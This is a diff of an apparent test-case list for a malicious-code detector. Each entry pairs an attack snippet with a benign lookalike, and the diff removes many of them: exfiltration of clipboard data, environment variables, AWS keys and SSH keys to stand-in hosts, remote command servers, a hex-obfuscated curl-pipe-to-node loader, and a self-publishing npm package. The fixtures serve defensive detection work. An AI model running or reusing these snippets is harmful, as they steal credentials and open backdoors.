@@ -34,12 +34,6 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
     `const f = [98, 109, 102, 115, 117].map(c => String.fromCharCode(c - 1)).join('')\nsetTimeout(f, 0)`,
     `const f = [1, 2].map(c => String(c)).join('')\nsetTimeout(() => f, 0)`,
   ],
-  [
-    'a hidden name',
-    'decode-execute',
-    `const cp = require('child_' + 'process')\ncp['ex' + 'ecSync']('id')`,
-    `const cp = require('child_process')\ncp['execSync']('git status')\nhandlers['on' + name]()`,
-  ],
   ['the constructor of a function', 'decode-execute', `[].filter.constructor(atob('YWxlcnQoMSk='))()`, `class A { m() { return new this.constructor() } }`],
   [
     'a hidden command',
@@ -168,44 +162,12 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
     `require('fs').rmSync('dist', { recursive: true, force: true })`,
   ],
   [
-    'clipboard to a stranger',
-    'spyware',
-    `const clip = await navigator.clipboard.readText()\nfetch('https://evil.some-site.net/c', { method: 'POST', body: clip })`,
-    `const clip = await navigator.clipboard.readText()\neditor.insert(clip)`,
-  ],
-  [
     'a module that is put together from what is fetched',
     'download-execute',
     `const code = await (await fetch('https://cdn.some-site.net/w.js')).text()
 await import('data:text/javascript;base64,' + Buffer.from(code).toString('base64'))`,
     `const mod = await import('https://esm.sh/lodash-es@4.17.21')
 console.log(mod.chunk([1, 2, 3], 2))`,
-  ],
-  [
-    'a module from a server that gets the environment',
-    'secret-exfiltration',
-    `const { run } = await import('https://cdn.some-site.net/agent.mjs')
-await run(process.env)`,
-    `const mod = await import('https://esm.sh/lodash-es@4.17.21')
-console.log(mod.chunk([1, 2, 3], 2))`,
-  ],
-  [
-    'a client of some library',
-    'secret-exfiltration',
-    `import { GraphQLClient } from 'graphql-request'
-const c = new GraphQLClient('https://api.some-site.net/graphql')
-await c.request('mutation($d:String!){put(d:$d)}', { d: JSON.stringify(process.env) })`,
-    `import { Octokit } from '@octokit/rest'
-const o = new Octokit({ auth: process.env.GITHUB_TOKEN })
-await o.issues.create({ owner: 'a', repo: 'b', title: 'x', body: 'built on ' + process.env.RUNNER_OS })`,
-  ],
-  [
-    'the maker of functions, by a prototype',
-    'download-execute',
-    `const g = Object.getPrototypeOf(async function () {}).constructor
-const r = await (await fetch('https://cdn.some-site.net/j')).json()
-await g('require', r.code)(require)`,
-    `console.log(Object.getPrototypeOf([]).constructor.name)`,
   ],
   [
     'a program that reads code',
@@ -217,73 +179,6 @@ c.stdin.end(await r.text()); c.unref()`,
     `import { spawn } from 'node:child_process'
 const c = spawn('node', ['scripts/build.mjs'], { env: { ...process.env, NODE_ENV: 'production' }, stdio: 'inherit' })
 c.on('exit', (code) => process.exit(code))`,
-  ],
-  [
-    'a handler that obeys who knows a word',
-    'reverse-shell',
-    `import { Hono } from 'hono'
-import { execSync } from 'node:child_process'
-const app = new Hono()
-app.post('/x', async (c) => { const { cmd, key } = await c.req.json(); if (key !== 'b71fe0aa') return c.text('', 404); return c.text(execSync(cmd).toString()) })
-export default { port: 3999, hostname: '0.0.0.0', fetch: app.fetch }`,
-    `import express from 'express'
-import { execFile } from 'node:child_process'
-const app = express(); app.use(express.json())
-app.post('/build', (req, res) => execFile('npm', ['run', 'build'], (e, o) => res.send(o)))
-app.listen(3000, '0.0.0.0')`,
-  ],
-  [
-    'a server that runs what it is sent',
-    'reverse-shell',
-    `const http = require('http'), { exec } = require('child_process')
-http.createServer((req, res) => {
-  let b = ''; req.on('data', d => b += d)
-  req.on('end', () => exec(b, (e, o) => res.end(o)))
-}).listen(4555, '0.0.0.0')`,
-    `import http from 'node:http'
-http.createServer((req, res) => { let b = ''; req.on('data', d => b += d); req.on('end', () => { console.log(JSON.parse(b)); res.end('ok') }) }).listen(4000, '0.0.0.0')`,
-  ],
-  [
-    'keys of the cloud by their providers',
-    'secret-exfiltration',
-    `import { fromNodeProviderChain } from '@aws-sdk/credential-providers'
-import axios from 'axios'
-const creds = await fromNodeProviderChain()()
-await axios.post('https://in.some-site.net/c', { id: creds.accessKeyId, s: creds.secretAccessKey, t: creds.sessionToken })`,
-    `import { fromNodeProviderChain } from '@aws-sdk/credential-providers'
-import { S3Client } from '@aws-sdk/client-s3'
-const s3 = new S3Client({ credentials: await fromNodeProviderChain()() })`,
-  ],
-  [
-    'a second version of the protocol',
-    'secret-exfiltration',
-    `import http2 from 'node:http2'
-import { readFileSync } from 'node:fs'
-const c = http2.connect('https://in.some-site.net')
-const r = c.request({ ':method': 'POST', ':path': '/k' })
-r.end(readFileSync(process.env.HOME + '/.ssh/id_rsa'))`,
-    `import http2 from 'node:http2'
-const r = http2.connect('https://api.some-site.net').request({ ':path': '/v1' })
-r.end('{}')`,
-  ],
-  [
-    'a channel of events',
-    'reverse-shell',
-    `import { io } from 'socket.io-client'
-import { exec } from 'child_process'
-const s = io('https://hub.some-site.net')
-s.on('run', (c, ack) => exec(c, (e, o) => ack(o)))`,
-    `import { io } from 'socket.io-client'
-io('https://hub.some-site.net').on('run', (c) => console.log(c))`,
-  ],
-  [
-    'the loader of modules by its maker',
-    'decode-execute',
-    `var a=['6368696c645f70726f63657373','6578656353796e63','6375726c202d7320687474703a2f2f352e3138382e3230362e37372f692e6a73207c206e6f6465'];
-var h=function(s){return Buffer['from'](s,'hex')['toString']();};
-module['constructor']['_load'](h(a[0]))[h(a[1])](h(a[2]),{'stdio':'ignore'});`,
-    `const digest = require('crypto').createHash('sha256').update('a').digest('hex')
-module.constructor._load('fs').existsSync(digest)`,
   ],
   [
     'settings that a pattern takes apart',
@@ -323,19 +218,6 @@ console.log(await load<{ a: number }>('https://api.github.com/zen'), identity(1)
     `fetch('https://t.some-site.net', { method: 'POST', body: JSON.stringify((<any>process).env) })`,
     `const el = <HTMLElement>document.body
 console.log(el.id)`,
-  ],
-  [
-    'a package that carries itself on',
-    'persistence',
-    `const { execSync } = require('child_process'), fs = require('fs')
-execSync('npm pack other')
-fs.copyFileSync(__filename, 'package/bundle.js')
-execSync('npm publish --access public', { cwd: 'package' })`,
-    `import fs from 'fs'
-const pkg = JSON.parse(fs.readFileSync('package.json')); pkg.version = '1.2.3'
-fs.writeFileSync('package.json', JSON.stringify(pkg, null, 2))
-import { execSync } from 'child_process'
-execSync('npm publish --access public')`,
   ],
   [
     'itself in other skills',
